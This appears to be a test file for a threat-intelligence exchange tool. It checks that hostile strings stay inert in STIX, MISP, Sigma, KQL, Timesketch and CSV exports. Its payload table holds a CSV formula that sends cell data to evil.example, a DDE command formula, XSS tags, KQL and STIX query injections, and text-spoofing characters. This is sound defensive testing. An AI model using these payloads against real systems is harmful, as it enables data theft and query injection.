"""One table of hostile texts against every exchange format, each read by a reader of its own kind."""

import csv
import functools
import io
import json
import re
from dataclasses import replace
from pathlib import Path

import jsonschema
import pymisp
import pytest
from pymisp import MISPEvent
from sigma.backends.test import TextQueryTestBackend
from sigma.collection import SigmaCollection
from sigma.types import SigmaString
from stix2validator import ValidationOptions, validate_string

from brokenseal.cli.share import ShareForm
from brokenseal.detectors import DETECTORS, WEIGHED
from brokenseal.exchange import FORMATS
from brokenseal.exchange.attack_names import TECHNIQUES, technique
from brokenseal.exchange.indicators import share
from brokenseal.exchange.shared import Terms
from brokenseal.exchange.tlp import Tlp
from brokenseal.wording import phrase
from exchange.worlds import AGENT, EVIL_APP, INTRUDER, case, document, found, read, record, simple, with_rows

BY_NAME = {form.name: form for form in FORMATS}
VICTIM = Terms(tlp=Tlp.RED, profile="victim")

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "at formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab formula": "\t=1+1",
    "split formula": "plain;=1+1,=2+2",
    "html": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "right to left": "invoice\u202efdp.exe \u2066hidden\u2069",
    "zero width": "pay\u200bpal\ufeff\u00ad",
    "terminal": "\x1b[2J\x1b]8;;http://evil.example\x07",
    "line breaks": "a\r\nb\u2028c\x85d",
    "null": "nul\x00byte",
    "stix quote": "x'] OR [ipv4-addr:value = '192.0.2.1",
    "stix backslash": "x\\' OR '1' = '1\\",
    "kql quote": 'x"]); database("*").Secrets | project * //',
    "kql comment": "x // \n.drop table OfficeActivity",
    "yaml": "x\n---\ntitle: other\ncondition: not selection #",
    "yaml quote": "\" : [ } - & * ! | > ' % @ `",
    "sigma wildcard": "*?\\*\\?",
    "csv": '","=1+1","\r\n"=1',
    "json": '"}],"type":"x","a":[{"b":"',
    "template": "{{7*7}} {0} %s ${x}",
    "emoji": "\U0001f600 שלום \U0001d4b3",
    "surrogate": "\ud800 alone",
    "markup": "[bold red]x[/] **b** ](javascript:alert(1))",
    "long": "rule name " * 100_000,
}
UNSEEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ud800-\udfff]"
)
FORMULA = re.compile(r'^[\s"]*[=+@\-]')


def hostile(text):
    """A document in which every field of log text is hostile, and a user agent that would be shared holds it too."""
    fields = {"actor": f"{text}!", "mailbox": f"{text}!", "client": f"tool/1.0 {text}", "operation": text}
    rows = [record(number, minutes=number, **fields) for number in range(1, 3)]
    shown = replace(found(rows), title=phrase("An inbox rule named {objects}", objects=text), sessions=(text,))
    made = case(rows, [shown])
    lines = tuple(read(row, subject=text, sender=text) for row in rows)
    made = replace(made, exposure=replace(made.exposure, messages=lines), actors=(f"{text}!",), mailboxes=(f"{text}!",))
    whole = with_rows(document(made), *rows)
    return replace(whole, coverage=replace(whole.coverage, tenants=(text,)))


@functools.cache
def hostile_sharing(name, profile):
    """The document of one line of the table, and what of it is shared: 1 MB is looked at once, not for each format."""
    made = hostile(HOSTILE[name])
    terms = Terms(producer=HOSTILE[name]) if profile == "default" else replace(VICTIM, producer=HOSTILE[name])
    return made, share(made, terms).shared


def rendered(form, made, terms):
    shared = share(made, terms).shared
    return shared, BY_NAME[form].render(made, shared)


def agents_of(shared):
    return [each.value for each in shared.indicators if each.kind == "user_agent"]


def strings_of(value):
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [*value, *(text for each in value.values() for text in strings_of(each))]
    return [text for each in value for text in strings_of(each)] if isinstance(value, list) else []


def read_stix(content, shared):
    seen = validate_string(content.decode(), ValidationOptions(version="2.1", strict=True, enforce_refs=True))
    assert [str(each) for each in (*seen.errors, *(seen.warnings or ()))] == []
    patterns = [each for each in json.loads(content)["objects"] if each["type"] == "indicator"]
    assert len(patterns) == len(shared.indicators)
    return strings_of(json.loads(content))


MISP_SCHEMA = json.loads((Path(pymisp.__file__).parent / "data" / "schema-lax.json").read_text())


def read_misp(content, shared):
    jsonschema.validate(json.loads(content), MISP_SCHEMA)
    event = MISPEvent()
    event.load(content.decode())
    assert sorted(each.value for each in event.attributes if each.type == "user-agent") == sorted(agents_of(shared))
    return strings_of(json.loads(content))


def read_json(content, _):
    return strings_of(json.loads(content))


def read_lines(content, _):
    return [text for line in content.decode().splitlines() for text in strings_of(json.loads(line))]


def read_csv(content, _):
    header, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert {len(row) for row in rows} <= {len(header)}
    cells = [text for row in rows for text in row]
    assert [text for text in cells if FORMULA.match(text)] == []
    return cells


def read_sigma(content, shared):
    rules = SigmaCollection.from_yaml(content.decode()).rules
    kinds = {each.kind for each in shared.indicators}
    assert len(rules) == 2 * len(kinds)
    plain = set()
    for rule in rules:
        for item in _items(rule.detection.detections["selection"]):
            assert all(isinstance(value, SigmaString) for value in item.value)
            # `contains` and `startswith` put the only wildcards there are around the value.
            plain |= {"".join(part for part in value.s if isinstance(part, str)) for value in item.value}
    assert set(agents_of(shared)) <= plain
    assert TextQueryTestBackend().convert(SigmaCollection(rules))
    return strings_of([rule.to_dict() for rule in rules if rule.title])


def _items(detection):
    for each in detection.detection_items:
        yield from _items(each) if hasattr(each, "detection_items") else [each]


def read_kql(content, shared):
    text = content.decode()
    assert _skeleton(text) == _skeleton(rendered("kql", only(shared), Terms(tlp=shared.tlp))[1].decode())
    return text.split("\n")


def _skeleton(text):
    """The query without what stands in strings, comments and times: nothing hostile may change it."""
    bare = re.sub(r'"(?:[^"\\\n]|\\.)*"', '""', text)
    bare = re.sub(r"//[^\n]*", "//", bare)
    bare = re.sub(r'\[(?:"", )*""\]', "[]", bare)
    return re.sub(r"datetime\([^)]*\)", "datetime()", bare)


def only(shared):
    """A harmless document with the same kinds of indicators."""
    client = AGENT if agents_of(shared) else None
    rows = [record(1, client=client)]
    return with_rows(document(case(rows)), *rows)


READERS = {
    "stix": read_stix,
    "misp": read_misp,
    "navigator": read_json,
    "ocsf": read_lines,
    "timesketch-csv": read_csv,
    "timesketch-jsonl": read_lines,
    "sigma": read_sigma,
    "kql": read_kql,
    "csv": read_csv,
}


@pytest.mark.parametrize("form", READERS)
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_content_is_harmless_in_every_format(form, name):
    """It parses, it changes no structure, nothing in it acts unseen or starts a formula, and it stays small."""
    for profile in ("default", "victim"):
        made, shared = hostile_sharing(name, profile)
        content = BY_NAME[form].render(made, shared)
        texts = READERS[form](content, shared)
        assert [text for text in texts if UNSEEN.search(text)] == []
        assert len(content) < 100_000


def test_the_table_does_put_hostile_text_into_indicators():
    """A user agent that can be seen whole is shared with whatever quotes it holds."""
    shared = [agents_of(hostile_sharing(name, "default")[1]) for name in HOSTILE]
    assert sum(len(each) for each in shared) >= 8
    assert ["tool/1.0 x'] OR [ipv4-addr:value = '192.0.2.1"] in shared


def test_every_format_has_a_reader_here_and_a_name_on_the_command_line():
    assert list(READERS) == [form.name for form in FORMATS] == [each.value for each in ShareForm]


@pytest.mark.parametrize("form", FORMATS, ids=lambda form: form.name)
def test_simulated_results_are_called_simulated_in_every_format(form):
    shared = share(simple(simulated=True), Terms()).shared
    assert b"imulated" in form.render(simple(simulated=True), shared)
    said = form.render(simple(), share(simple(), Terms()).shared).decode().replace('"simulated"', "")
    assert "imulated" not in said.replace('"simulated":"no"', "").replace("simulated", "", 1)


@pytest.mark.parametrize("form", FORMATS, ids=lambda form: form.name)
def test_the_marking_stands_in_every_format(form):
    shared = share(simple(), Terms(tlp=Tlp.AMBER_STRICT)).shared
    said = form.render(simple(), shared).decode().lower()
    assert any(mark in said for mark in ("tlp:amber+strict", "tlp.amber-strict"))


@pytest.mark.parametrize("form", FORMATS, ids=lambda form: form.name)
def test_machines_get_addresses_as_they_are(form):
    content = form.render(simple(), share(simple(), Terms()).shared).decode()
    if form.name != "navigator":
        assert INTRUDER in content


@pytest.mark.parametrize("terms", [Terms(), VICTIM], ids=["default", "victim"])
@pytest.mark.parametrize("form", FORMATS, ids=lambda form: form.name)
def test_an_equal_document_gives_equal_bytes(form, terms):
    first, second = (form.render(simple(), share(simple(), terms).shared) for _ in range(2))
    assert first == second


# ---------------------------------------------------------------- what each format says


def test_the_misp_event_says_what_is_known():
    event = json.loads(rendered("misp", simple(simulated=True), Terms())[1])["Event"]
    tags = [tag["name"] for tag in event["Tag"]]
    assert tags == ["tlp:amber", "simulated", 'misp-galaxy:mitre-attack-pattern="Remote Email Collection - T1114.002"']
    assert event["info"] == "Simulated: Mail read without the right to, 1 case(s)"
    objects = {
        each["name"]: {one["object_relation"]: one["value"] for one in each["Attribute"]} for each in event["Object"]
    }
    assert objects == {
        "ip-port": {"ip-src": INTRUDER},
        "user-account": {"user-id": EVIL_APP, "is_service_account": "1"},
    }
    marked = [one["value"] for each in event["Object"] for one in each["Attribute"] if one["to_ids"]]
    marked += [each["value"] for each in event["Attribute"] if each["to_ids"]]
    assert sorted(marked) == sorted([INTRUDER, EVIL_APP, AGENT])
    assert event["distribution"] == "0"


def test_the_layer_scores_techniques_by_cases():
    layer = json.loads(rendered("navigator", simple(), Terms())[1])
    assert layer["versions"] == {"attack": "18", "navigator": "5.2.0", "layer": "4.5"}
    assert [(each["techniqueID"], each["score"]) for each in layer["techniques"]] == [("T1114.002", 1)]
    assert layer["domain"] == "enterprise-attack"


def test_a_detection_finding_has_what_the_class_requires():
    (line,) = rendered("ocsf", simple(), Terms())[1].splitlines()
    made = json.loads(line)
    # Required by OCSF 1.8.0 for every event of the class.
    required = {
        "activity_id",
        "category_uid",
        "class_uid",
        "finding_info",
        "metadata",
        "severity_id",
        "time",
        "type_uid",
    }
    assert required <= made.keys()
    assert (made["class_uid"], made["category_uid"], made["type_uid"]) == (2004, 2, 200401)
    assert (made["metadata"]["version"], made["metadata"]["product"]["vendor_name"]) == ("1.8.0", "Brokenseal")
    assert made["finding_info"]["title"] == "Mail read with a token that no sign-in explains"
    assert made["observables"] == [
        {"name": "evidences[].src_endpoint.ip", "type_id": 2, "type": "IP Address", "value": INTRUDER},
        {"name": "evidences[].actor.user.name", "type_id": 4, "type": "User Name", "value": "account-1"},
    ]
    assert made["time"] % 1000 == 0
    assert made["start_time"] == 1716170460000


def test_the_timeline_has_timesketch_s_columns_and_numbers_for_names():
    content = rendered("timesketch-csv", simple(), Terms())[1]
    assert content.startswith(b'"message","datetime","timestamp_desc","timestamp"')
    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert [(row["account"], row["mailbox"], row["address"]) for row in rows] == [
        ("account-1", "mailbox-1", INTRUDER)
    ] * 3
    assert rows[0]["datetime"] == "2024-05-20T02:01:00+00:00"
    assert rows[0]["timestamp"] == "1716170460000000"
    lines = [json.loads(line) for line in rendered("timesketch-jsonl", simple(), Terms())[1].splitlines()]
    assert [str(line["timestamp"]) for line in lines] == [row["timestamp"] for row in rows]


def test_an_address_that_is_kept_back_stands_in_no_timeline():
    rows = [record(1), record(2, ip="10.0.0.7", minutes=1)]
    content = rendered("timesketch-csv", with_rows(document(case(rows)), *rows), Terms())[1].decode()
    assert INTRUDER in content
    assert "10.0.0.7" not in content


def test_sigma_matches_addresses_with_and_without_a_port():
    rows = [record(1, ip="2001:db8::1")]
    text = rendered("sigma", with_rows(document(case(rows)), *rows), Terms())[1].decode()
    queries = TextQueryTestBackend().convert(SigmaCollection.from_yaml(text))
    # The test backend of pySigma escapes colons.
    assert [query.replace("\\:", ":") for query in queries] == [
        'ClientIPAddress="2001:db8::1" or ClientIP="2001:db8::1" or ActorIpAddress="2001:db8::1" or ClientIP startswith "[2001:db8::1]:"',
        'IPAddress="2001:db8::1"',
    ]


def test_kusto_reads_the_very_values():
    text = rendered("kql", simple(), Terms())[1].decode()
    lists = [json.loads(each) for each in re.findall(r"dynamic\((.*)\);", text)]
    assert lists == [[INTRUDER], [EVIL_APP], [AGENT]] * 3
    assert text.count("| where SameAddress or SameApplication") == 3


def test_a_user_agent_alone_is_asked_for_alone():
    rows = [record(1, ip="10.0.0.7", client=AGENT)]
    text = rendered("kql", with_rows(document(case(rows)), *rows), Terms())[1].decode()
    assert text.count("| where SameAgent\n") == 3


def test_every_technique_of_every_detector_has_a_name():
    used = {
        number for each in (*DETECTORS, *WEIGHED) for variant in each.variants.values() for number in variant.attack
    }
    assert used <= {each.id for each in TECHNIQUES}
    assert technique("T1114.002").url == "https://attack.mitre.org/versions/v18/techniques/T1114/002/"
    assert technique("T9999") == ("T9999", "T9999", ())
